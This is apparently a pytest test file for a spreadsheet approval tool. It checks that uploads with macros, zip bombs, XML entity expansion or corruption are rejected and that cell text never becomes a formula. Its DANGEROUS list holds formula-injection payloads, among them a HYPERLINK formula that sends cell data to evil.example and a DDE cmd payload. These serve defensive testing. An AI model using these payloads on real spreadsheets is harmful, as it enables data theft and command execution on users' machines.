"""Files by people who mean no good, or by programs that mean well: nothing runs, nothing explodes, nothing is approved."""

from __future__ import annotations

import io
import warnings
import zipfile
from collections.abc import Callable
from contextlib import suppress
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from smm_office.columns import Column, guarded, heads, is_active, plain, rows_of
from smm_office.csv_file import read_csv, write_csv
from smm_office.entries import Entry
from smm_office.files import read_sheet
from smm_office.language import languages
from smm_office.marks import Marks
from smm_office.safety import LARGEST_FILE
from smm_office.sheet import Cell
from smm_office.verdicts import Status, judge
from smm_office.workbook import read_workbook, write_workbook

from smm_core import Part, Review, ReviewState, SmmError, Variant, sealed

NOW = datetime(2026, 12, 1, 9, tzinfo=UTC)
QUICK = settings(
    max_examples=40, deadline=None, database=None, derandomize=True, suppress_health_check=list(HealthCheck)
)
ENGLISH = languages().of("en", "UTC")


def entry(text: str, number: int = 1, title: str = "Rye") -> Entry:
    variant = sealed(Variant(profile="social", parts=(Part(text=text),)))
    review = Review(
        id=number, post_id=1, client="acme", approver="office", digests={"social": variant.digest},
        state=ReviewState.OPEN, asked_at=NOW,
    )  # fmt: skip
    return Entry(
        review=review, title=title, variant=variant, problems=(), due_at=None, deadline=None,
        picture=lambda sha256: b"", preview=lambda: b"",
    )  # fmt: skip


@pytest.fixture(scope="module")
def marks(tmp_path_factory: pytest.TempPathFactory) -> Marks:
    return Marks(tmp_path_factory.mktemp("marks"))


def asked(*entries: Entry) -> dict[int, dict[str, str]]:
    return {one.review.id: dict(one.review.digests) for one in entries}


def packed(**members: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in members.items():
            archive.writestr(name.replace("__", "/").replace("_xml", ".xml"), body)
    return out.getvalue()


def repacked(body: bytes, changes: dict[str, bytes]) -> bytes:
    """A workbook with some of its files replaced or added."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(body)) as before, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as after:
        for name in before.namelist():
            if name not in changes:
                after.writestr(name, before.read(name))
        for name, text in changes.items():
            after.writestr(name, text)
    return out.getvalue()


@pytest.fixture(scope="module")
def good(marks: Marks) -> bytes:
    return write_workbook(rows_of([entry("Rye is back.")], ENGLISH, marks), ENGLISH)


# ---------------------------------------------------------------- files


def test_what_is_no_sheet_is_said(tmp_path: Path, good: bytes) -> None:
    cases = {
        "a.xlsm": (good, "ending .xlsm are not opened"),
        "a.ods": (good, "only .xlsx and .csv are read"),
        "a.xlsx": (b"", "is no spreadsheet"),
        "b.xlsx": (b"PK\x03\x04 not really", "is no spreadsheet"),
        "c.xlsx": (b"\xd0\xcf\x11\xe0 old", "in the format of old, or locked with a password"),
        "d.xlsx": (packed(hello_xml=b"<a/>"), "no spreadsheet of the format .xlsx"),
        "e.xlsx": (good[: len(good) // 2], "is no spreadsheet"),
        "f.xlsx": (repacked(good, {"xl/vbaProject.bin": b"macro"}), "it has macros"),
        "g.xlsx": (
            repacked(good, {"[Content_Types].xml": b'<x ContentType="application/vnd.ms-excel.sheet.macroEnabled"/>'}),
            "may run macros",
        ),
        "h.xlsx": (repacked(good, {"xl/workbook.xml": b"<workbook"}), "cannot be read as a spreadsheet"),
    }
    for name, (body, words) in cases.items():
        (tmp_path / name).write_bytes(body)
        with pytest.raises(SmmError) as caught:
            read_sheet(tmp_path / name)
        assert words in str(caught.value)
        assert name in str(caught.value)
    with pytest.raises(SmmError, match="No such file"):
        read_sheet(tmp_path / "missing.xlsx")


def test_bombs_are_not_opened(good: bytes, tmp_path: Path) -> None:
    bomb = b"<!-- " + b" " * 40_000_000 + b" -->"
    with pytest.raises(SmmError, match="packed far too small"):
        read_workbook(repacked(good, {"xl/bomb.xml": bomb}))
    many = {f"xl/{number}.xml": b"<a/>" for number in range(3_001)}
    with pytest.raises(SmmError, match="files inside"):
        read_workbook(repacked(good, many))
    laughs = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><x>&b;</x>'
    for body in (laughs, laughs.decode().encode("utf-16")):
        with pytest.raises(SmmError, match="defines entities"):
            read_workbook(repacked(good, {"xl/sharedStrings.xml": body}))
    large = tmp_path / "large.csv"
    with large.open("wb") as file:
        file.truncate(LARGEST_FILE + 1)
    with pytest.raises(SmmError, match="at most 25 MB are read"):
        read_sheet(large)


def test_a_member_that_lies_about_its_size_is_not_read_further(good: bytes) -> None:
    body = bytearray(repacked(good, {"xl/worksheets/sheet1.xml": b"<worksheet>" + b"x" * 100_000}))
    at = body.rfind(b"PK\x01\x02")
    while body[at + 46 : at + 46 + 24] != b"xl/worksheets/sheet1.xml":
        at = body.rfind(b"PK\x01\x02", 0, at)
    body[at + 24 : at + 28] = (50).to_bytes(4, "little")  # the size that it has when unpacked
    with pytest.raises(SmmError):
        read_workbook(bytes(body))


@QUICK
@given(junk=st.binary(min_size=1, max_size=40), at=st.integers(0, 10_000))
def test_a_file_that_was_damaged_is_an_error_or_a_sheet(junk: bytes, at: int, good: bytes) -> None:
    place = at % len(good)
    with suppress(SmmError):
        read_workbook(good[:place] + junk + good[place + len(junk) :])


# ---------------------------------------------------------------- cells that could run


DANGEROUS = (
    '=HYPERLINK("https://evil.example?"&A1,"here")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", " =1+1", "＝1+1",
)  # fmt: skip


@pytest.mark.parametrize("text", DANGEROUS)
def test_no_text_becomes_a_formula(text: str, marks: Marks) -> None:
    one = entry(text, title=text)
    rows = rows_of([one], ENGLISH, marks)
    body = write_workbook(rows, ENGLISH)
    sheet = load_workbook(io.BytesIO(body)).worksheets[0]
    for name in ("A2", "E2"):
        assert sheet[name].data_type == "s"
        assert sheet[name].value == text
        assert sheet[name].quotePrefix
    assert is_active(text)
    written = write_csv(rows, heads(ENGLISH)).decode("utf-8-sig")
    assert f'"\'{text}"'.replace('""', '"') in written.replace('""', '"')
    for back in (read_workbook(body), read_csv(write_csv(rows, heads(ENGLISH)))):
        back[1][7] = Cell(text="Approve")
        assert [given.answer.by for given in judge(back, marks, asked(one), "bob").given] == ["bob"]


def test_a_formula_is_no_answer_whatever_it_would_give(marks: Marks, good: bytes) -> None:
    book = load_workbook(io.BytesIO(good))
    sheet = book.worksheets[0]
    sheet["H2"] = '=IF(TRUE,"Approve","")'
    out = io.BytesIO()
    book.save(out)
    # What a program worked out stands beside the formula in the file, and must not be taken for what a person chose.
    cached = repacked(
        out.getvalue(),
        {
            "xl/worksheets/sheet1.xml": zipfile.ZipFile(out)
            .read("xl/worksheets/sheet1.xml")
            .replace(b'<f>IF(TRUE,"Approve","")</f><v></v>', b'<f>IF(TRUE,"Approve","")</f><v>Approve</v>')
            .replace(b'<f>IF(TRUE,"Approve","")</f><v />', b'<f>IF(TRUE,"Approve","")</f><v>Approve</v>')
        },
    )
    assert b"<v>Approve</v>" in zipfile.ZipFile(io.BytesIO(cached)).read("xl/worksheets/sheet1.xml")
    judged = judge(read_workbook(cached), marks, asked(entry("Rye is back.")), "bob")
    assert judged.given == ()
    assert [one.status for one in judged.findings] == [Status.UNCLEAR]
    assert "formulas are not worked out" in judged.findings[0].message


# ---------------------------------------------------------------- arbitrary contents


TEXTS = st.text(max_size=60) | st.sampled_from(
    [*DANGEROUS, "Approve", "approve ", "Akkoord", "OK!", "no", "", "smm", "Verdict"]
)
ROWS = st.lists(st.lists(TEXTS, min_size=10, max_size=12), max_size=4)


@QUICK
@given(rows=ROWS)
def test_what_anybody_makes_up_approves_nothing(rows: list[list[str]], marks: Marks) -> None:
    one = entry("Rye is back.")
    sheet = [[Cell(text=head) for head in heads(ENGLISH)], *([Cell(text=text) for text in row] for row in rows)]
    judged = judge(sheet, marks, asked(one), "bob")
    assert judged.given == ()
    assert all(finding.status is Status.FOREIGN for finding in judged.findings)


@QUICK
@given(verdict=TEXTS, remark=TEXTS, text=st.none() | TEXTS)
def test_only_the_words_for_yes_approve(verdict: str, remark: str, text: str | None, marks: Marks) -> None:
    one = entry("Rye is back.")
    (row,) = rows_of([one], ENGLISH, marks)
    cells = dict(zip(Column, row.cells, strict=True)) | {Column.VERDICT: verdict, Column.REMARKS: remark}
    if text is not None:
        cells[Column.TEXT] = text
    sheet = [[Cell(text=head) for head in heads(ENGLISH)], [Cell(text=cells[column]) for column in Column]]
    judged = judge(sheet, marks, asked(one), "bob")
    word = " ".join(verdict.casefold().split()).rstrip(".!")
    is_yes = word in ("approve", "approved", "akkoord", "ok", "okay", "oké", "goedgekeurd")
    approved = [given for given in judged.given if given.answer.decision == "approve"]
    assert bool(approved) == (is_yes and text is None)


@QUICK
@given(text=st.text(max_size=300))
def test_every_text_comes_back_as_it_was(text: str, marks: Marks) -> None:
    one = entry(text, title=text)
    rows = rows_of([one], ENGLISH, marks)
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        back = read_workbook(write_workbook(rows, ENGLISH)), read_csv(write_csv(rows, heads(ENGLISH)))
    for sheet in back:
        sheet[1][7] = Cell(text="Approve")
        judged = judge(sheet, marks, asked(one), "bob")
        assert [given.answer.review_id for given in judged.given] == [1], judged.findings


@QUICK
@given(text=st.text(max_size=80))
def test_no_cell_of_a_csv_file_is_active(text: str) -> None:
    assert not is_active(guarded(plain(text)))


@QUICK
@given(body=st.binary(max_size=300) | st.text(max_size=300).map(lambda text: text.encode("utf-8", "surrogatepass")))
def test_any_bytes_are_a_csv_file_or_an_error(body: bytes, marks: Marks) -> None:
    try:
        rows = read_csv(body)
    except SmmError:
        return
    assert judge(rows, marks, {}, "bob").given == ()


def test_the_same_row_twice_counts_once_and_says_so(marks: Marks) -> None:
    one = entry("Rye is back.")
    (row,) = rows_of([one], ENGLISH, marks)
    cells = [Cell(text=cell) for cell in row.cells]
    yes, no = [*cells], [*cells]
    yes[7], no[7] = Cell(text="Rework"), Cell(text="Approve")
    judged = judge([[Cell(text=head) for head in heads(ENGLISH)], yes, no], marks, asked(one), "bob")
    assert [given.answer.decision for given in judged.given] == ["rework"]
    assert [finding.message for finding in judged.findings] == ["stands twice in the sheet; the first row counts"]


def test_a_row_about_another_version_is_stale(marks: Marks) -> None:
    one = entry("Rye is back.")
    (row,) = rows_of([one], ENGLISH, marks)
    cells = [Cell(text=cell) for cell in row.cells]
    cells[7] = Cell(text="Approve")
    judged = judge([[Cell(text=head) for head in heads(ENGLISH)], cells], marks, {1: {"social": "0" * 64}}, "bob")
    assert (judged.given, [finding.status for finding in judged.findings]) == ((), [Status.STALE])


def test_a_sheet_of_another_workspace_is_foreign(marks: Marks, tmp_path: Path) -> None:
    one = entry("Rye is back.")
    (row,) = rows_of([one], ENGLISH, Marks(tmp_path))
    cells = [Cell(text=cell) for cell in row.cells]
    cells[7] = Cell(text="Approve")
    judged = judge([[Cell(text=head) for head in heads(ENGLISH)], cells], marks, asked(one), "bob")
    assert [finding.status for finding in judged.findings] == [Status.FOREIGN]
    assert (tmp_path / "sheet-key").stat().st_mode & 0o077 == 0


def test_heads_that_stand_twice_are_no_heads(studio: Any, fill: Callable[..., None], tmp_path: Path) -> None:
    studio.post("rogge", "2026-12-10T09:00", "Rogge is terug.")
    studio.round()
    path = tmp_path / "bob.xlsx"
    studio.run("out", "--for", "bob", "--to", path)
    sheet = Workbook()
    sheet.save(tmp_path / "empty.xlsx")
    assert "there are no rows that smm wrote" in str(studio.run("in", tmp_path / "empty.xlsx", "--by", "bob").exception)
    fill(path, {2: ("Akkoord", "")}, K1="Oordeel", K2="Aanpassen")
    assert "there are no rows that smm wrote" in str(studio.run("in", path, "--by", "bob").exception)
    assert studio.verdicts() == []
